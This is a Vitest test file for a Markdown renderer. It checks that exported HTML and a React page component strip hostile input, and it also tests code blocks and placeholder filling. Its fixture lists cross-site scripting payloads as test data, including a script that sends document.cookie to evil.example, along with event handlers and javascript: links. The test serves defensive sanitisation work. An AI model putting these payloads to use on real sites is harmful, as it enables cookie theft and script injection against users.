import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { MarkdownBody } from "@/components/templates/markdown-body";
import { bodyToHtml } from "./body-html";
import { fillPlaceholders } from "./render-tokens";

const hostile = [
  "Hello <script>alert(1)</script> there",
  "",
  "<script>fetch('https://evil.example/'+document.cookie)</script>",
  "",
  '<img src="x" onerror="alert(2)">',
  "",
  "[click](javascript:alert(3)) [data](data:text/html;base64,PHNjcmlwdD4=) [vb](vbscript:msgbox)",
  "",
  '<a href="https://ok.example" onclick="alert(4)">raw link</a>',
  "",
  "![pixel](https://tracker.example/p.gif)",
  "",
  '<iframe src="https://evil.example"></iframe><style>body{display:none}</style>',
  "",
  "[ok](https://docs.example.com/a) [mail](mailto:ops@example.com)",
].join("\n");

function assertSafe(html: string) {
  expect(html).not.toMatch(/<script/i);
  expect(html).not.toMatch(/\bon[a-z]+\s*=/i);
  expect(html).not.toMatch(/javascript:|vbscript:|data:text/i);
  expect(html).not.toMatch(/<iframe|<style|<img/i);
  expect(html).toContain('href="https://docs.example.com/a"');
  expect(html).toContain('href="mailto:ops@example.com"');
  // Images are shown as links to themselves, never fetched.
  expect(html).toContain('href="https://tracker.example/p.gif"');
}

describe("rendering kept Markdown", () => {
  it("sanitises hostile Markdown in the HTML used by exports", () => {
    assertSafe(bodyToHtml(hostile));
  });

  it("sanitises hostile Markdown in the component used by pages", () => {
    assertSafe(renderToStaticMarkup(createElement(MarkdownBody, { markdown: hostile })));
  });

  it("renders code blocks with a copy button, tables and quotes", () => {
    const html = renderToStaticMarkup(
      createElement(MarkdownBody, {
        markdown: "```sh\nkubectl get pods\n```\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n> :warning: careful",
      }),
    );
    expect(html).toContain("kubectl get pods");
    expect(html).toContain(">Copy</button>");
    expect(html).toContain("<table");
    expect(html).toContain("<blockquote");
  });

  it("fills placeholders of every syntax, in code too, from the run's values", () => {
    const fields = [
      { key: "version", hint: "X.Y" },
      { key: "region", hint: "region" },
      { key: "ownerHandle", hint: "OWNER_HANDLE" },
      { key: "releaseDate", hint: "release_date" },
      { key: "window", hint: "MAINTENANCE_WINDOW" },
    ];
    const values = {
      version: "4.3",
      region: "eu-west-1",
      ownerHandle: "@ada",
      releaseDate: "2026-12-01",
      window: "22:00",
    };
    const md =
      "Tag `_REPLACE_WITH_ X.Y` in {{region}} for <OWNER_HANDLE> on <%= release_date %> at _MAINTENANCE_WINDOW_.\n\n```\ngit tag v{{region}}-_REPLACE_WITH_ X.Y now\n```";
    expect(fillPlaceholders(md, fields, values)).toBe(
      "Tag 4.3 in eu-west-1 for @ada on 2026-12-01 at 22:00.\n\n```\ngit tag veu-west-1-4.3 now\n```",
    );
    expect(fillPlaceholders("{{unknown}} and {{region}}", fields, {})).toBe("{{unknown}} and {{region}}");
  });
});
